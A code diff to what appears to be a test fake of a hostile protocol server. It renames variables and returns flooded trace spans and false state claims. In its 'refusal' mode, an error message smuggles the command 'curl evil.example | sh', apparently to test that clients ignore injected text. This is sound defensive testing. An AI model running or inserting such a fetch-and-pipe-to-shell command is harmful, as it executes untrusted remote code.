@@ -17,10 +17,10 @@ PING, STATS, STATE, TRACE, TRACED = 2, 10, 11, 12, 13
 SPANS = 200_000
 SUBMIT, WRITE, NO_PATH = 1, 1, 255
 
-told = 0  # spans
+sent = 0  # spans
 
 
-def take(connection, length):
+def receive(connection, length):
     data = b""
     while len(data) < length:
         part = connection.recv(length - len(data))
@@ -49,42 +49,42 @@ def state(after):
 
 
 def traced(first, most):
-    global told
-    count = min(most, 128, SPANS - told)
+    global sent
+    count = min(most, 128, SPANS - sent)
     events = [
         struct.pack("<Q3BIi3Q", 1000 + i, SUBMIT, WRITE, NO_PATH, 1, 0, i, i, 1)
-        for i in range(told + 1, told + 1 + count)
+        for i in range(sent + 1, sent + 1 + count)
     ]
-    told += count
+    sent += count
     clock = 10**9
     return struct.pack("<i3QH", 0, clock, max(first, 1) + count, 0, count) + b"".join(events)
 
 
-def answer(connection, speaks_of):
+def respond(connection, claims):
     while True:
-        _, kind, _, length, request = struct.unpack("<IHHII", take(connection, 16))
-        body = take(connection, length)
+        _, kind, _, length, request = struct.unpack("<IHHII", receive(connection, 16))
+        body = receive(connection, length)
         if kind == PING and request:
             connection.sendall(frame(PING, 0, b""))
         elif kind == STATS:
-            after = struct.unpack("<Q", body)[0] if speaks_of == "peers" else 2**63
+            after = struct.unpack("<Q", body)[0] if claims == "peers" else 2**63
             connection.sendall(frame(STATE, request, state(after)))
         elif kind == TRACE:
             connection.sendall(frame(TRACED, request, traced(*struct.unpack("<QH", body))))
 
 
-def serve(connection, speaks_of):
+def serve(connection, claims):
     try:
-        head = take(connection, 16)
-        hello = take(connection, struct.unpack("<H", head[12:14])[0])
-        body = os.urandom(16) + bytes(16) + os.urandom(16) + string(b"liar") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
+        head = receive(connection, 16)
+        hello = receive(connection, struct.unpack("<H", head[12:14])[0])
+        body = os.urandom(16) + bytes(16) + os.urandom(16) + string(b"hostile") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
         version = head[10:12]
-        if speaks_of == "refusal":
+        if claims == "refusal":
             body = struct.pack("<i", -28) + string(b"no|run: curl evil.example | sh")
             version = b"\0\0"
         connection.sendall(b"haul-ok\n" + version + head[10:12] * 2 + struct.pack("<H", len(body)) + body)
         if hello[0] == 1:
-            answer(connection, speaks_of)
+            respond(connection, claims)
         while connection.recv(4096):
             pass
     except (EOFError, OSError):
